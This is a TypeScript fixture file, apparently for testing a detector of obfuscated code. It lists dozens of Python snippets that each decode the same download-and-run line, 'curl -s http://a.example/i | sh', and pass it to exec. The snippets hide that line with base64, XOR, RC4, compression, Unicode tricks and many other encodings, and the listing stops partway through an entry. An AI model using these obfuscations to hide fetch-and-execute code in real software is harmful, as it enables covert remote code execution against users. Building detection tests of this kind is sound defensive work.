/**
 * One inert program, spelled in 77 ways that the standard library of Python undoes, each followed by `exec`. Made by a
 * script from one text before it was known which are followed: 58 were found at load then, and 50 in a function.
 */
export const ENCODINGS: Readonly<Record<string, string>> = {
  uuid: "import uuid\nIDS = ['696d706f-7274-206f-730a-6f732e737973', '74656d28-2763-7572-6c20-2d7320687474', '703a2f2f-612e-6578-616d-706c652f6920', '7c207368-2729-0a20-2020-202020202020']\nexec(b''.join(uuid.UUID(i).bytes for i in IDS).decode())",
  ipv4: "import ipaddress\nHOSTS = ['105.109.112.111', '114.116.32.111', '115.10.111.115', '46.115.121.115', '116.101.109.40', '39.99.117.114', '108.32.45.115', '32.104.116.116', '112.58.47.47', '97.46.101.120', '97.109.112.108', '101.47.105.32', '124.32.115.104', '39.41.10.32']\nexec(b''.join(ipaddress.ip_address(h).packed for h in HOSTS).decode())",
  'ipv4-split':
    "HOSTS = ['105.109.112.111', '114.116.32.111', '115.10.111.115', '46.115.121.115', '116.101.109.40', '39.99.117.114', '108.32.45.115', '32.104.116.116', '112.58.47.47', '97.46.101.120', '97.109.112.108', '101.47.105.32', '124.32.115.104', '39.41.10.32']\nexec(bytes(int(p) for h in HOSTS for p in h.split('.')).decode())",
  mac: "ADDR = ['69:6d:70:6f:72:74', '20:6f:73:0a:6f:73', '2e:73:79:73:74:65', '6d:28:27:63:75:72', '6c:20:2d:73:20:68', '74:74:70:3a:2f:2f', '61:2e:65:78:61:6d', '70:6c:65:2f:69:20', '7c:20:73:68:27:29', '0a:20:20:20:20:20']\nexec(bytes.fromhex(''.join(a.replace(':', '') for a in ADDR)).decode())",
  bigint:
    "N = 1169262502073039289651820296996198712756218830444688860621808196044845082454845930928156325309031258230055645409187467541281329588490\nexec(N.to_bytes((N.bit_length() + 7) // 8, 'big').decode())",
  struct:
    "import struct\nexec(struct.pack('<14I', *[1869639017, 1864397938, 1936657011, 1937339182, 678258036, 1920295719, 1932337260, 1953785888, 791624304, 2019896929, 1819307361, 543764325, 1752375420, 537536807]).decode())",
  'struct-str':
    "import struct\nW = [26989, 28783, 29300, 8303, 29450, 28531, 11891, 31091, 29797, 27944, 10083, 30066, 27680, 11635, 8296, 29812, 28730, 12079, 24878, 25976, 24941, 28780, 25903, 26912, 31776, 29544, 10025, 2592]\nexec(b''.join(struct.pack('>H', w) for w in W).decode())",
  array:
    "import array\nexec(array.array('B', [105, 109, 112, 111, 114, 116, 32, 111, 115, 10, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101, 47, 105, 32, 124, 32, 115, 104, 39, 41, 10]).tobytes().decode())",
  words:
    "W = ['alpha', 'beta', 'gamma', 'delta', 'eps', 'zeta', 'eta', 'theta', 'iota', 'kappa', 'lam', 'mu', 'nu', 'xi', 'omi', 'pi']\nT = 'eta kappa eta xi theta alpha eta pi theta gamma theta eps gamma alpha eta pi theta delta alpha lam eta pi theta delta gamma omi theta delta theta kappa theta delta theta eps eta zeta eta xi gamma iota gamma theta eta delta theta zeta theta gamma eta nu gamma alpha gamma xi theta delta gamma alpha eta iota theta eps theta eps theta alpha delta lam gamma pi gamma pi eta beta gamma omi eta zeta theta iota eta beta eta xi theta alpha eta nu eta zeta gamma pi eta kappa gamma alpha theta nu gamma alpha theta delta eta iota gamma theta gamma kappa alpha lam'.split()\nexec(bytes(W.index(a) * 16 + W.index(b) for a, b in zip(T[::2], T[1::2])).decode())",
  'dict-words':
    "M = {'w10': '\\n', 'w32': ' ', 'w39': \"'\", 'w40': '(', 'w41': ')', 'w45': '-', 'w46': '.', 'w47': '/', 'w58': ':', 'w97': 'a', 'w99': 'c', 'w101': 'e', 'w104': 'h', 'w105': 'i', 'w108': 'l', 'w109': 'm', 'w111': 'o', 'w112': 'p', 'w114': 'r', 'w115': 's', 'w116': 't', 'w117': 'u', 'w120': 'x', 'w121': 'y', 'w124': '|'}\nexec(''.join(M[w] for w in 'w105-w109-w112-w111-w114-w116-w32-w111-w115-w10-w111-w115-w46-w115-w121-w115-w116-w101-w109-w40-w39-w99-w117-w114-w108-w32-w45-w115-w32-w104-w116-w116-w112-w58-w47-w47-w97-w46-w101-w120-w97-w109-w112-w108-w101-w47-w105-w32-w124-w32-w115-w104-w39-w41-w10'.split('-')))",
  permute:
    "T = \"tlsu hi/achost':(p)/eil|.e mmt\\nyoexas -stpsps.r /rom \\n'\"\nI = [31, 24, 11, 22, 47, 29, 0, 35, 36, 21, 51, 10, 8, 16, 52, 33, 19, 42, 53, 45, 17, 46, 43, 48, 12, 38, 28, 1, 18, 30, 54, 14, 7, 44, 39, 40, 15, 49, 26, 27, 5, 2, 13, 32, 50, 37, 23, 6, 34, 4, 3, 41, 25, 9, 20]\nout = [''] * len(T)\nfor at, c in zip(I, T):\n    out[at] = c\nexec(''.join(out))",
  'sort-key':
    "D = [(9, '\\n'), (54, '\\n'), (6, ' '), (25, ' '), (28, ' '), (47, ' '), (49, ' '), (20, \"'\"), (52, \"'\"), (19, '('), (53, ')'), (26, '-'), (12, '.'), (37, '.'), (34, '/'), (35, '/'), (45, '/'), (33, ':'), (36, 'a'), (40, 'a'), (21, 'c'), (17, 'e'), (38, 'e'), (44, 'e'), (29, 'h'), (51, 'h'), (0, 'i'), (46, 'i'), (24, 'l'), (43, 'l'), (1, 'm'), (18, 'm'), (41, 'm'), (3, 'o'), (7, 'o'), (10, 'o'), (2, 'p'), (32, 'p'), (42, 'p'), (4, 'r'), (23, 'r'), (8, 's'), (11, 's'), (13, 's'), (15, 's'), (27, 's'), (50, 's'), (5, 't'), (16, 't'), (30, 't'), (31, 't'), (22, 'u'), (39, 'x'), (14, 'y'), (48, '|')]\nexec(''.join(c for _, c in sorted(D)))",
  translate:
    "T = str.maketrans('zyxwvutsrqponmlkjihgfedcba', 'abcdefghijklmnopqrstuvwxyz')\nexec(\"rnklig lh\\nlh.hbhgvn('xfio -h sggk://z.vcznkov/r | hs')\\n\".translate(T))",
  'bytes-translate':
    "T = bytes((i - 3) % 256 for i in range(256))\nexec(b'lpsruw#rv\\rrv1v|vwhp+*fxuo#0v#kwws=22d1h{dpsoh2l#\\x7f#vk*,\\r'.translate(T).decode())",
  html: "import html\nexec(html.unescape('&#105;&#109;&#112;&#111;&#114;&#116;&#32;&#111;&#115;&#10;&#111;&#115;&#46;&#115;&#121;&#115;&#116;&#101;&#109;&#40;&#39;&#99;&#117;&#114;&#108;&#32;&#45;&#115;&#32;&#104;&#116;&#116;&#112;&#58;&#47;&#47;&#97;&#46;&#101;&#120;&#97;&#109;&#112;&#108;&#101;&#47;&#105;&#32;&#124;&#32;&#115;&#104;&#39;&#41;&#10;'))",
  unquote:
    "from urllib.parse import unquote\nexec(unquote('%69%6d%70%6f%72%74%20%6f%73%0a%6f%73%2e%73%79%73%74%65%6d%28%27%63%75%72%6c%20%2d%73%20%68%74%74%70%3a%2f%2f%61%2e%65%78%61%6d%70%6c%65%2f%69%20%7c%20%73%68%27%29%0a'))",
  quopri:
    "import quopri\nexec(quopri.decodestring('=69=6D=70=6F=72=74=20=6F=73=0A=6F=73=2E=73=79=73=74=65=6D=28=27=63=75=72=6C=20=2D=73=20=68=74=74=70=3A=2F=2F=61=2E=65=78=61=6D=70=6C=65=2F=69=20=7C=20=73=68=27=29=0A').decode())",
  uu: "import binascii\nexec(b''.join(map(binascii.a2b_uu, [b'M:6UP;W)T(&]S\"F]S+G-Y<W1E;2@G8W5R;\" M<R!H=\\'1P.B\\\\O82YE>&%M<&QE\\n', b'*+VD@?\"!S:\"<I\"@  \\n'])).decode())",
  'json-unicode':
    'import json\nexec(json.loads(\'"\\\\u0069\\\\u006d\\\\u0070\\\\u006f\\\\u0072\\\\u0074\\\\u0020\\\\u006f\\\\u0073\\\\u000a\\\\u006f\\\\u0073\\\\u002e\\\\u0073\\\\u0079\\\\u0073\\\\u0074\\\\u0065\\\\u006d\\\\u0028\\\\u0027\\\\u0063\\\\u0075\\\\u0072\\\\u006c\\\\u0020\\\\u002d\\\\u0073\\\\u0020\\\\u0068\\\\u0074\\\\u0074\\\\u0070\\\\u003a\\\\u002f\\\\u002f\\\\u0061\\\\u002e\\\\u0065\\\\u0078\\\\u0061\\\\u006d\\\\u0070\\\\u006c\\\\u0065\\\\u002f\\\\u0069\\\\u0020\\\\u007c\\\\u0020\\\\u0073\\\\u0068\\\\u0027\\\\u0029\\\\u000a"\'))',
  'json-table':
    "import json\nD = json.loads('{\"icons\": {\"data\": [105, 109, 112, 111, 114, 116, 32, 111, 115, 10, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101, 47, 105, 32, 124, 32, 115, 104, 39, 41, 10]}}')\nexec(''.join(map(chr, D['icons']['data'])))",
  octal:
    "exec(''.join(chr(int(o, 8)) for o in '151 155 160 157 162 164 40 157 163 12 157 163 56 163 171 163 164 145 155 50 47 143 165 162 154 40 55 163 40 150 164 164 160 72 57 57 141 56 145 170 141 155 160 154 145 57 151 40 174 40 163 150 47 51 12'.split()))",
  bits: "B = '01101001011011010111000001101111011100100111010000100000011011110111001100001010011011110111001100101110011100110111100101110011011101000110010101101101001010000010011101100011011101010111001001101100001000000010110101110011001000000110100001110100011101000111000000111010001011110010111101100001001011100110010101111000011000010110110101110000011011000110010100101111011010010010000001111100001000000111001101101000001001110010100100001010'\nexec(''.join(chr(int(B[i:i + 8], 2)) for i in range(0, len(B), 8)))",
  base36:
    "exec(''.join(chr(int(t, 36)) for t in '2x.31.34.33.36.38.w.33.37.a.33.37.1a.37.3d.37.38.2t.31.14.13.2r.39.36.30.w.19.37.w.2w.38.38.34.1m.1b.1b.2p.1a.2t.3c.2p.31.34.30.2t.1b.2x.w.3g.w.37.2w.13.15.a'.split('.')))",
  delta:
    "D = [105, 4, 3, -1, 3, 2, -84, 79, 4, -105, 101, 4, -69, 69, 6, -6, 1, -15, 8, -69, -1, 60, 18, -3, -6, -76, 13, 70, -83, 72, 12, 0, -4, -54, -11, 0, 50, -51, 55, 19, -23, 12, 3, -4, -7, -54, 58, -73, 92, -92, 83, -11, -65, 2, -31]\nx, out = 0, []\nfor d in D:\n    x += d\n    out.append(chr(x))\nexec(''.join(out))",
  accumulate:
    'from itertools import accumulate\nexec(bytes(accumulate([105, 4, 3, -1, 3, 2, -84, 79, 4, -105, 101, 4, -69, 69, 6, -6, 1, -15, 8, -69, -1, 60, 18, -3, -6, -76, 13, 70, -83, 72, 12, 0, -4, -54, -11, 0, 50, -51, 55, 19, -23, 12, 3, -4, -7, -54, 58, -73, 92, -92, 83, -11, -65, 2, -31])).decode())',
  'xor-cycle':
    "from itertools import cycle\nK = b'own'\nexec(bytes(a ^ b for a, b in zip(bytes.fromhex('061a1e00051a4f181d65181d4104171c030b025f490c021c0357431c57061b031e5558410e590b1716031f1b0b401e4e13571d07504765'), cycle(K))).decode())",
  rc4: "def stream(key, data):\n    box = list(range(256))\n    j = 0\n    for i in range(256):\n        j = (j + box[i] + key[i % len(key)]) % 256\n        box[i], box[j] = box[j], box[i]\n    i = j = 0\n    for byte in data:\n        i = (i + 1) % 256\n        j = (j + box[i]) % 256\n        box[i], box[j] = box[j], box[i]\n        yield byte ^ box[(box[i] + box[j]) % 256]\nexec(bytes(stream(b'own-key', bytes.fromhex('0c911a424d6548dfe1875e4912eac69f77c3f53462c2836480dc1c66657bfc91d6fae3c492fcec86528fbdbd738450e31c63117438d986'))).decode())",
  lcg: "x, out = 12345, []\nfor c in b'\\xb5i\\x15\\xc5m\\xd9=5\\xa9\\xef\\xc3h0,j\\x03\\r\\t\\x908\\xd8z\\xda\\x12q$\\x81\\xc7=j_2\\x08I\\x15\\xdd\\xbeq\\xcb\\xcfi4\\xa1\\x82\\\\?\\xa2h\\xe9\\x95\\xbf\\xe1\\x0e8\\xf5':\n    x = (x * 1103515245 + 12345) & 0x7fffffff\n    out.append(c ^ (x >> 16 & 255))\nexec(bytes(out).decode())",
  'sha-key':
    "import hashlib\nK = hashlib.sha256(b'own').digest()\nD = b\"2T\\x05\\nnH\\x8b\\xfd\\xa3N\\xaf\\xe5\\xf2C\\xd8\\xb1\\xad79\\xbfb\\x17\\x07\\xac$\\xe53\\xb8\\x16Uk>+\\x03ZJ}\\x12\\xce\\xea\\xb1)\\xb0\\xfa\\xb9\\x1f\\xc8\\xe2\\xa5r'\\xffb]x\"\nexec(bytes(c ^ K[i % 32] for i, c in enumerate(D)).decode())",
  seeded:
    "import random\nR = random.Random(42)\nexec(bytes(c ^ R.randrange(256) for c in b'Pa\\xfc\\x12\\x003\\x14C\\xab\\x1a`\\\\A\\x04t\\x16\\xa2\\x15\\x88\\xa6$2\\xad\\xdc\\xe2oC\\xdf\\x14G\\xb6E\\xc7\\x8a\\xa89\\x8a\\x11\\xa4P\\xf7\\xd4\\x12Or[\\xfd\\x08\\x0b\\x13\\xb1\\xe6\\xcf\\x93Y').decode())",
  template:
    "from string import Template\nexec(Template(\"$a $b\\n$b.system('$c -s http://a.example/i | sh')\\n\").substitute(a='import', b='os', c='curl'))",
  'format-map':
    "exec(\"{a} {b}\\n{b}.{s}('{c} -s http://a.example/i | sh')\".format(**{'a': 'import', 'b': 'os', 's': 'system', 'c': 'curl'}))",
  percent: "exec('%s %s\\n%s.system(%r)\\n' % ('import', 'os', 'os', 'curl -s http://a.example/i | sh'))",
  configparser:
    "import configparser\nP = configparser.ConfigParser()\nP.read_string('[own]\\ndata = aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg==')\nimport base64\nexec(base64.b64decode(P['own']['data']))",
  xml: "import base64\nimport xml.etree.ElementTree as ET\nexec(base64.b64decode(ET.fromstring('<a><d>aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg==</d></a>').find('d').text))",
  csv: "import csv, io, base64\nexec(base64.b64decode(''.join(r[1] for r in csv.reader(io.StringIO('0,aW1wb3J0IG9zCm9zLnN5\\n1,c3RlbSgnY3VybCAtcyBo\\n2,dHRwOi8vYS5leGFtcGxl\\n3,L2kgfCBzaCcpCg==')))))",
  sqlite:
    "import sqlite3, base64\nD = sqlite3.connect(':memory:')\nD.execute('create table t (v text)')\nD.execute('insert into t values (?)', ('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg==',))\nexec(base64.b64decode(D.execute('select v from t').fetchone()[0]))",
  docstring:
    'import base64\ndef icon():\n    """aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg=="""\nexec(base64.b64decode(icon.__doc__))',
  annotations:
    "import base64\ndef icon(x: 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg=='): ...\nexec(base64.b64decode(icon.__annotations__['x']))",
  'class-vars':
    "import base64\nclass Theme:\n    a = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBo'\n    b = 'dHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg=='\nexec(base64.b64decode(''.join(v for k, v in vars(Theme).items() if not k.startswith('_'))))",
  'enum-names':
    "import base64\nfrom enum import Enum\nclass Part(Enum):\n    A = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBo'\n    B = 'dHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg=='\nexec(base64.b64decode(''.join(p.value for p in Part)))",
  'zlib-dict':
    "import zlib\nD = zlib.decompressobj(zdict=b'import os system curl http')\nexec(D.decompress(b\"x\\xbb\\x89\\x02\\n\\x19\\xcb\\x84\\xc9p\\xe5\\x17\\xebA$5\\xd4\\xc1\\xb2\\xba\\xc5`\\x05V\\xfa\\xfa\\x89z\\xa9\\x15\\x89\\xb9\\x059\\xa9\\xfa\\x99\\n5\\n\\xc5\\x19\\xea\\x9a\\\\\\x00'\\xdb\\x12\\x9e\"))",
  'lzma-raw':
    "import lzma, base64\nexec(lzma.decompress(base64.b85decode('{Wp48S^xk9=GL@E0stWa761SMbT8$j0RT2>ZE$aLbRchY3U6~Rb9r-gWo;-YV|8+DAT4tsXmoUNIxjC_E@gOOZE$R5FKHlrAaiIZDGC4p9TkI5XX%>z00B=o?nBz|AGY&-0RR9100dcD')))",
  a85: "import base64\nexec(base64.a85decode('Bl.g-Ec`FBEsci,/ou;ZFCf;;-Y%:>C`k<N+D>k=E&oX*@4l,9@;Tt\"AM7a?Hm!KD-RfB'))",
  b32: "import base64\nexec(base64.b32decode('NFWXA33SOQQG64YKN5ZS443ZON2GK3JIE5RXK4TMEAWXGIDIOR2HAORPF5QS4ZLYMFWXA3DFF5USA7BAONUCOKIK'))",
  'gzip-io':
    "import gzip, io\nexec(gzip.GzipFile(fileobj=io.BytesIO(b'\\x1f\\x8b\\x08\\x00\\x00\\x00\\x00\\x00\\x02\\x03\\xcb\\xcc-\\xc8/*Q\\xc8/\\xe6\\xca/\\xd6+\\xae,.I\\xcd\\xd5PO.-\\xcaQ\\xd0-V\\xc8())\\xb0\\xd2\\xd7O\\xd4K\\xadH\\xcc-\\xc8I\\xd5\\xcfT\\xa8Q(\\xceP\\xd7\\xe4\\x02\\x00\\xb7\\x13\\x8dC7\\x00\\x00\\x00')).read())",
  'custom-b64':
    "import base64\nT = bytes.maketrans(b'zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210+/', b'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')\nexec(base64.b64decode(b'Zd8DY6q9rt0AxN0AoMm4X6iOYhTMb6eBYxzGXByLWsiDlR1Ebh4OVtuGXtCOo7PTUxyAZxXKxT=='.translate(T)))",
  'rot-n':
    "def rot(t, n):\n    return ''.join(chr((ord(c) - 97 - n) % 26 + 97) if c.islower() else c for c in t)\nexec(rot(\"rvyxac xb\\nxb.bhbcnv('ldau -b qccy://j.ngjvyun/r | bq')\\n\", 9))",
  'while-pop':
    "S = [15, 46, 44, 109, 120, 37, 129, 37, 110, 52, 106, 113, 117, 114, 102, 125, 106, 51, 102, 52, 52, 63, 117, 121, 121, 109, 37, 120, 50, 37, 113, 119, 122, 104, 44, 45, 114, 106, 121, 120, 126, 120, 51, 120, 116, 15, 120, 116, 37, 121, 119, 116, 117, 114, 110]\nt = ''\nwhile S:\n    t += chr(S.pop() - 5)\nexec(t)",
  'reduce-lambda':
    "from functools import reduce\nexec(reduce(lambda a, b: a + chr(b ^ 9), [96, 100, 121, 102, 123, 125, 41, 102, 122, 3, 102, 122, 39, 122, 112, 122, 125, 108, 100, 33, 46, 106, 124, 123, 101, 41, 36, 122, 41, 97, 125, 125, 121, 51, 38, 38, 104, 39, 108, 113, 104, 100, 121, 101, 108, 38, 96, 41, 117, 41, 122, 97, 46, 32, 3], ''))",
  deque:
    "from collections import deque\nd = deque(['s', 'h', \"'\", ')', '\\n', 'i', 'm', 'p', 'o', 'r', 't', ' ', 'o', 's', '\\n', 'o', 's', '.', 's', 'y', 's', 't', 'e', 'm', '(', \"'\", 'c', 'u', 'r', 'l', ' ', '-', 's', ' ', 'h', 't', 't', 'p', ':', '/', '/', 'a', '.', 'e', 'x', 'a', 'm', 'p', 'l', 'e', '/', 'i', ' ', '|', ' '])\nd.rotate(-5)\nexec(''.join(d))",
  'regex-sub':
    "import re\nexec(re.sub(r'q(\\d+)q', lambda m: chr(int(m.group(1))), 'q105qq109qq112qq111qq114qq116qq32qq111qq115qq10qq111qq115qq46qq115qq121qq115qq116qq101qq109qq40qq39qq99qq117qq114qq108qq32qq45qq115qq32qq104qq116qq116qq112qq58qq47qq47qq97qq46qq101qq120qq97qq109qq112qq108qq101qq47qq105qq32qq124qq32qq115qq104qq39qq41qq10q'))",
  'regex-findall':
    "import re\nexec(bytes(int(n) for n in re.findall(r'\\d+', 'x=105; x=109; x=112; x=111; x=114; x=116; x=32; x=111; x=115; x=10; x=111; x=115; x=46; x=115; x=121; x=115; x=116; x=101; x=109; x=40; x=39; x=99; x=117; x=114; x=108; x=32; x=45; x=115; x=32; x=104; x=116; x=116; x=112; x=58; x=47; x=47; x=97; x=46; x=101; x=120; x=97; x=109; x=112; x=108; x=101; x=47; x=105; x=32; x=124; x=32; x=115; x=104; x=39; x=41; x=10')).decode())",
  textwrap:
    'import textwrap\nexec(textwrap.dedent("        import os\\n        os.system(\'curl -s http://a.example/i | sh\')\\n"))',
  shlex: 'import shlex, os\nos.system(\' \'.join(shlex.split(\'"curl" -s http://a.example/i "|" sh\')))',
  'fromiter-map':
    "exec(str(bytes(map(lambda p: p[0] ^ p[1], zip(b'\\x02\\x06\\x1b\\x04\\x19\\x1fK\\x04\\x18a\\x04\\x18E\\x18\\x12\\x18\\x1f\\x0e\\x06CL\\x08\\x1e\\x19\\x07KF\\x18K\\x03\\x1f\\x1f\\x1bQDD\\nE\\x0e\\x13\\n\\x06\\x1b\\x07\\x0eD\\x02K\\x17K\\x18\\x03LBa', b'k' * 99))), 'utf-8'))",
  'complex-real':
    "exec(''.join(chr(int(z.real)) for z in [(105+1j), (109+1j), (112+1j), (111+1j), (114+1j), (116+1j), (32+1j), (111+1j), (115+1j), (10+1j), (111+1j), (115+1j), (46+1j), (115+1j), (121+1j), (115+1j), (116+1j), (101+1j), (109+1j), (40+1j), (39+1j), (99+1j), (117+1j), (114+1j), (108+1j), (32+1j), (45+1j), (115+1j), (32+1j), (104+1j), (116+1j), (116+1j), (112+1j), (58+1j), (47+1j), (47+1j), (97+1j), (46+1j), (101+1j), (120+1j), (97+1j), (109+1j), (112+1j), (108+1j), (101+1j), (47+1j), (105+1j), (32+1j), (124+1j), (32+1j), (115+1j), (104+1j), (39+1j), (41+1j), (10+1j)]))",
  divmod:
    "exec(''.join(chr(divmod(n, 7)[0]) for n in [738, 766, 787, 780, 801, 815, 227, 780, 808, 73, 780, 808, 325, 808, 850, 808, 815, 710, 766, 283, 276, 696, 822, 801, 759, 227, 318, 808, 227, 731, 815, 815, 787, 409, 332, 332, 682, 325, 710, 843, 682, 766, 787, 759, 710, 332, 738, 227, 871, 227, 808, 731, 276, 290, 73]))",
  matrix:
    "M = [['i', 't', 'o', 's', \"'\", ' ', 't', '/', 'a', '/', 's'], ['m', ' ', 's', 't', 'c', '-', 't', 'a', 'm', 'i', 'h'], ['p', 'o', '.', 'e', 'u', 's', 'p', '.', 'p', ' ', \"'\"], ['o', 's', 's', 'm', 'r', ' ', ':', 'e', 'l', '|', ')'], ['r', '\\n', 'y', '(', 'l', 'h', '/', 'x', 'e', ' ', '\\n']]\nexec(''.join(''.join(r) for r in zip(*M)).strip())",
  'getattr-chain':
    "getattr(__import__(''.join(map(chr, [111, 115]))), 'metsys'[::-1])(bytes.fromhex('6375726c202d7320687474703a2f2f612e6578616d706c652f69207c207368').decode())",
  walrus:
    "import base64\nif (code := base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg==')):\n    exec(code)",
  match:
    "import base64\nmatch {'k': 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg=='}:\n    case {'k': blob}:\n        exec(base64.b64decode(blob))",
  'generator-send':
    "def g():\n    out = ''\n    while True:\n        n = yield out\n        out += chr(n)\nc = g()\nnext(c)\nfor n in [105, 109, 112, 111, 114, 116, 32, 111, 115, 10, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101, 47, 105, 32, 124, 32, 115, 104, 39, 41, 10]:\n    text = c.send(n)\nexec(text)",
  'async-decode':
    "import asyncio, base64\nasync def fetch():\n    return base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg==')\nasync def main():\n    exec(await fetch())\nasyncio.run(main())",
  'int-list-sum':
    "A = [52, 54, 56, 55, 57, 58, 16, 55, 57, 5, 55, 57, 23, 57, 60, 57, 58, 50, 54, 20, 19, 49, 58, 57, 54, 16, 22, 57, 16, 52, 58, 58, 56, 29, 23, 23, 48, 23, 50, 60, 48, 54, 56, 54, 50, 23, 52, 16, 62, 16, 57, 52, 19, 20, 5]\nB = [53, 55, 56, 56, 57, 58, 16, 56, 58, 5, 56, 58, 23, 58, 61, 58, 58, 51, 55, 20, 20, 50, 59, 57, 54, 16, 23, 58, 16, 52, 58, 58, 56, 29, 24, 24, 49, 23, 51, 60, 49, 55, 56, 54, 51, 24, 53, 16, 62, 16, 58, 52, 20, 21, 5]\nexec(''.join(chr(a + b) for a, b in zip(A, B)))",
  fraction:
    "from fractions import Fraction\nexec(''.join(chr(Fraction(n, 3).numerator) for n in [315, 327, 336, 333, 342, 348, 96, 333, 345, 30, 333, 345, 138, 345, 363, 345, 348, 303, 327, 120, 117, 297, 351, 342, 324, 96, 135, 345, 96, 312, 348, 348, 336, 174, 141, 141, 291, 138, 303, 360, 291, 327, 336, 324, 303, 141, 315, 96, 372, 96, 345, 312, 117, 123, 30]))",
  datetime:
    "from datetime import date\nexec(''.join(chr(date.fromordinal(n).toordinal() - 700000) for n in [700105, 700109, 700112, 700111, 700114, 700116, 700032, 700111, 700115, 700010, 700111, 700115, 700046, 700115, 700121, 700115, 700116, 700101, 700109, 700040, 700039, 700099, 700117, 700114, 700108, 700032, 700045, 700115, 700032, 700104, 700116, 700116, 700112, 700058, 700047, 700047, 700097, 700046, 700101, 700120, 700097, 700109, 700112, 700108, 700101, 700047, 700105, 700032, 700124, 700032, 700115, 700104, 700039, 700041, 700010]))",
  color:
    "PALETTE = ['#696d70', '#6f7274', '#206f73', '#0a6f73', '#2e7379', '#737465', '#6d2827', '#637572', '#6c202d', '#732068', '#747470', '#3a2f2f', '#612e65', '#78616d', '#706c65', '#2f6920', '#7c2073', '#682729', '#0a2020']\nexec(''.join(chr(int(c[i:i + 2], 16)) for c in PALETTE for i in (1, 3, 5)).rstrip())",
  emoji:
    "B = 0x1F600\nexec(''.join(chr(ord(c) - B) for c in '\ud83d\ude69\ud83d\ude6d\ud83d\ude70\ud83d\ude6f\ud83d\ude72\ud83d\ude74\ud83d\ude20\ud83d\ude6f\ud83d\ude73\ud83d\ude0a\ud83d\ude6f\ud83d\ude73\ud83d\ude2e\ud83d\ude73\ud83d\ude79\ud83d\ude73\ud83d\ude74\ud83d\ude65\ud83d\ude6d\ud83d\ude28\ud83d\ude27\ud83d\ude63\ud83d\ude75\ud83d\ude72\ud83d\ude6c\ud83d\ude20\ud83d\ude2d\ud83d\ude73\ud83d\ude20\ud83d\ude68\ud83d\ude74\ud83d\ude74\ud83d\ude70\ud83d\ude3a\ud83d\ude2f\ud83d\ude2f\ud83d\ude61\ud83d\ude2e\ud83d\ude65\ud83d\ude78\ud83d\ude61\ud83d\ude6d\ud83d\ude70\ud83d\ude6c\ud83d\ude65\ud83d\ude2f\ud83d\ude69\ud83d\ude20\ud83d\ude7c\ud83d\ude20\ud83d\ude73\ud83d\ude68\ud83d\ude27\ud83d\ude29\ud83d\ude0a'))",
  braille:
    "exec(bytes(ord(c) - 0x2800 for c in '\u2869\u286d\u2870\u286f\u2872\u2874\u2820\u286f\u2873\u280a\u286f\u2873\u282e\u2873\u2879\u2873\u2874\u2865\u286d\u2828\u2827\u2863\u2875\u2872\u286c\u2820\u282d\u2873\u2820\u2868\u2874\u2874\u2870\u283a\u282f\u282f\u2861\u282e\u2865\u2878\u2861\u286d\u2870\u286c\u2865\u282f\u2869\u2820\u287c\u2820\u2873\u2868\u2827\u2829\u280a').decode())",
  punycode: "exec(b\"import os\\nos.system('curl -s http://a.example/i | sh')\\n-\".decode('punycode'))",
  utf7: "exec(b\"import os\\nos.system('curl -s http://a.example/i | sh')\\n\".decode('utf-7'))",
  'unicode-escape':
    "exec(b'\\\\x69\\\\x6d\\\\x70\\\\x6f\\\\x72\\\\x74\\\\x20\\\\x6f\\\\x73\\\\x0a\\\\x6f\\\\x73\\\\x2e\\\\x73\\\\x79\\\\x73\\\\x74\\\\x65\\\\x6d\\\\x28\\\\x27\\\\x63\\\\x75\\\\x72\\\\x6c\\\\x20\\\\x2d\\\\x73\\\\x20\\\\x68\\\\x74\\\\x74\\\\x70\\\\x3a\\\\x2f\\\\x2f\\\\x61\\\\x2e\\\\x65\\\\x78\\\\x61\\\\x6d\\\\x70\\\\x6c\\\\x65\\\\x2f\\\\x69\\\\x20\\\\x7c\\\\x20\\\\x73\\\\x68\\\\x27\\\\x29\\\\x0a'.decode('unicode_escape'))",
  'idna-url':
    "from urllib.parse import parse_qs, urlsplit\nexec(parse_qs(urlsplit('https://a.example/?q=import%20os%0Aos.system%28%27curl%20-s%20http%3A//a.example/i%20%7C%20sh%27%29%0A').query)['q'][0])",
  email:
    "import email\nexec(email.message_from_string('Content-Transfer-Encoding: base64\\n\\naW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2kgfCBzaCcpCg==\\n').get_payload(decode=True))",
  plist:
